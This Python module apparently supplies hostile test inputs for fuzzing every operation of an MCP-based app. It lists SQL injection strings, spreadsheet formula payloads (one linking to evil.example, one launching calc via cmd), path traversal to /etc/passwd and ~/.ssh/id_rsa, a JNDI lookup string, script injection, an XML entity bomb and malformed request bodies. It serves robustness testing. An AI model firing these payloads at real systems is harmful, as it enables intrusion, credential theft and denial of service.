"""Values and bodies that nobody sends in good faith, for every operation of every app."""

from collections.abc import Iterator
from typing import Any

from legoenv_mcp.kernel.operations import kinds_of

NOT_UNICODE = ["\ud800", "x\udfffy"]
CONTROLS = ["\x00", "a\x00b", "\x1b[2J", "\x7f", "\u2028", "\ufeff", "x\r\nSet-Cookie: a=b", "x\nX-Injected: y"]
LOOKALIKES = [
    "аdmin",
    "ﬁle",
    "İstanbul",
    "ß",
    "e" + "\u0301" * 200,
    "\u202egnp.exe",
    "\U0010ffff",
    "\u200b",
    "１２３",
    "\u0663",
    "\u00b2",
]
SQL = [
    "' OR '1'='1", "'; DROP TABLE x; --", '") UNION SELECT key, value FROM _meta --', "%' OR 1=1 --", "1; SELECT pg_sleep(100)", "%", "_",
    "\\", "\\'",
]  # fmt: skip
FORMULAS = ['=HYPERLINK("http://evil.example","x")', "=1+1", "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"]
PATHS = [
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd", "file:///etc/passwd", "..\\..\\x", "/proc/self/environ",
    "~/.ssh/id_rsa", "C:\\x", "//server/share", "/\x00", ".", "..", "/", "a/../../b",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "{0.__class__}",
    "%s%n%x",
    "%(x)s",
    "{",
    "}",
    "__proto__",
    "<script>alert(1)</script>",
    "&lt;",
]
XML = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "'
    + "&a;" * 10
    + '"><!ENTITY c "'
    + "&b;" * 10
    + '">]><l>&c;</l>'
)
ADDRESSES = [
    "http://[::1", "http://a:99999999/", "http://", "http://user@host@x/", "javascript:alert(1)", "data:text/html,x", "a@b", "a@@b", "@",
    "a@b.c\n",
]  # fmt: skip
QUERIES = [
    "(", ")", "()", "[", "[[[[", "AND", "OR NOT", '"', "'", '"a', "a OR", "is:", "before:", "-:", "from:(", "{a", "name = ", "ORDER BY x",
    ":", "*", "**", "?", "^$", "a..b", "<", ">=", ",", ";", "#", "&", "=",
]  # fmt: skip
DATES = [
    "0000-00-00", "0000-01-01T00:00:00Z", "0001-01-01", "0001-01-01T00:00:00+14:00", "9999-12-31", "9999-12-31T23:59:59.999999-12:00",
    "2024-02-30", "2026-01-01T00:00:00+99:99", "2026-13-45T99:99:99Z", "-271821-04-20T00:00:00Z", "+275760-09-13", "infinity", "now",
    "2026-W54-9", "253402300800", "-62135596801", "99999999999999", "P99999999999Y", "RRULE:FREQ=SECONDLY;COUNT=999999",
]  # fmt: skip
DIGITS = ["9" * 5000, "-" + "9" * 30, "1e400", "NaN", "-Infinity", "-0", "0x10", "1_000", "1,5", "+1", "00", " 1 "]
TEXTS: list[Any] = [
    *NOT_UNICODE, *CONTROLS, *LOOKALIKES, *SQL, *FORMULAS, *PATHS, *TEMPLATES, XML, *ADDRESSES, *QUERIES, *DATES, *DIGITS, "", "A" * 300,
]  # fmt: skip
NUMBERS: list[Any] = [
    -1, 0, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63), -(2**63) - 1, 10**400, 1e308, float("nan"), float("inf"), -0.0, True, None, [], {},
]  # fmt: skip


def long(size: int) -> list[str]:
    """Texts on which a pattern that goes back, or a reader that calls itself, takes for ever: repeated signs, and an end that fits
    nothing."""
    half, third = size // 2, size // 3
    return [
        "a" * size + "!", "é" * half, " " * size + "x", "\n" * size + "x", "-" * size + "!", "1" * size + "x", "." * size + "@",
        "@" + "." * size + "\n", "a@" + "a." * half + "@", "<" * size, "<a " * third, "</" * half, "&#" * half, "(" * size, ")" * size,
        "[" * size, "{" * size, "{{" * half, '"' * size, "'" * size, "\\" * size, "*" * size, "*a" * half, "%a" * half, "`" * size,
        "#" * size, "/" * size + "!", "../" * third, "http://" + "a." * half + " ", "a," * half, "a OR " * (size // 5),
        "NOT " * (size // 4), "+1" * half, "1-" * half, ":" * size, "a:b " * (size // 4), "!(" * half, "<@" * half, "**" * half,
        "[a](" * (size // 4), "Re: " * (size // 4), "=?utf-8?q?" * (size // 10), "a;b=" * (size // 4), "<a@b>" * (size // 5),
        "2026-01-01" * (size // 10), "1d " * third, "?" * size, "\u0130" * half, "[a-z]*" * (size // 6), "{a,b}" * 12, "+(a|" * (size // 4),
    ]  # fmt: skip


def nested(depth: int, what: str = "[") -> Any:
    """Lists in lists, or objects in objects."""
    made: Any = []
    for _ in range(depth):
        made = [made] if what == "[" else {"a": made}
    return made


def placed(schema: dict[str, Any], value: Any) -> Any:
    """A text where the schema wants a list or an object: in it."""
    kinds = kinds_of(schema)
    if not isinstance(value, str) or not kinds or "string" in kinds:
        return value
    if "array" in kinds:
        items = next((arm["items"] for arm in (schema, *schema.get("anyOf", ())) if "items" in arm), {})
        return [dict.fromkeys(list(items["properties"])[:8], value) if items.get("properties") else value]
    if "object" in kinds:
        return dict.fromkeys(schema.get("properties") or [value[:100], "a"], value)
    return value


def plausible(schema: dict[str, Any], known: list[Any], turn: int) -> Any:
    """A value that may well be meant, for what is required beside the hostile one."""
    for arm in (schema, *schema.get("anyOf", ())):
        if "enum" in arm:
            return next((v for v in arm["enum"] if v is not None), None)
    kinds = kinds_of(schema)
    texts, numbers = [k for k in known if isinstance(k, str)] or ["x"], [k for k in known if isinstance(k, int)] or [1]
    if "string" in kinds or not kinds:
        return texts[turn % len(texts)]
    if "integer" in kinds or "number" in kinds:
        return numbers[turn % len(numbers)] if turn % 2 else max(int(schema.get("minimum", 1)), 1)
    if "boolean" in kinds:
        return True
    if "array" in kinds:
        return [plausible(schema.get("items") or {"type": "string"}, known, turn)]
    return {n: plausible(s, known, turn) for n, s in list((schema.get("properties") or {}).items())[:6]}


def bodies() -> Iterator[tuple[str, bytes]]:
    """Bodies that are not what they say, with their media types."""
    json, form = "application/json", "application/x-www-form-urlencoded"
    yield json, b"{"
    yield json, b"\xff\xfe{}"
    yield json, b'{"a": "\\ud800"}'
    yield json, b'{"a": NaN, "b": 1e400, "c": ' + b"9" * 5000 + b"}"
    yield json, b"[" * 10_000 + b"]" * 10_000
    yield json, b'{"a":' * 10_000 + b"1" + b"}" * 10_000
    yield json, b"null"
    yield json, b'{"a": 1, "a": 2}'
    yield "application/json; charset=utf-7", b'{"a": "+2AA-"}'
    yield form, b"a=%ff%fe&b=%00&c=%ud800&=&&%"
    yield form, b"a" + b"[a]" * 2000 + b"=1"
    yield form, b"a[0]=1&a=2&a[b][c]=3&a[999999999]=4"
    yield form, b"&".join(b"a%d=1" % n for n in range(5000))
    yield "application/xml", XML.encode()
    yield "application/xml", b"<a>" * 10_000
    yield "text/plain; charset=utf-7", b"+2AA-"
    yield "text/plain; charset=nosuch", b"x"
    yield "multipart/form-data", b"x"
    yield "multipart/form-data; boundary=", b"----\r\n\r\n"
    parts = b"".join(b'--b\r\nContent-Disposition: form-data; name="a%d"\r\n\r\nx\r\n' % n for n in range(2000))
    yield "multipart/form-data; boundary=b", parts + b"--b--\r\n"
    yield (
        "multipart/form-data; boundary=b",
        b'--b\r\nContent-Disposition: form-data; name="\xff"; filename="../../x"\r\n\r\nx\r\n--b--\r\n',
    )
    yield "multipart/mixed; boundary=b", b"--b\r\n\r\n" * 500
    yield "\xff/\x00", b"{}"


QUERY_STRINGS = [
    "a=%ff%fe",
    "%",
    "&&&=",
    "a[b]=1&a=2",
    "limit=1e400&page=-1&size=99999999999999999999",
    "a" * 20_000,
    "%00=%00",
    "a=%ud800",
]


__all__ = ["NUMBERS", "QUERY_STRINGS", "TEXTS", "bodies", "long", "nested", "placed", "plausible"]
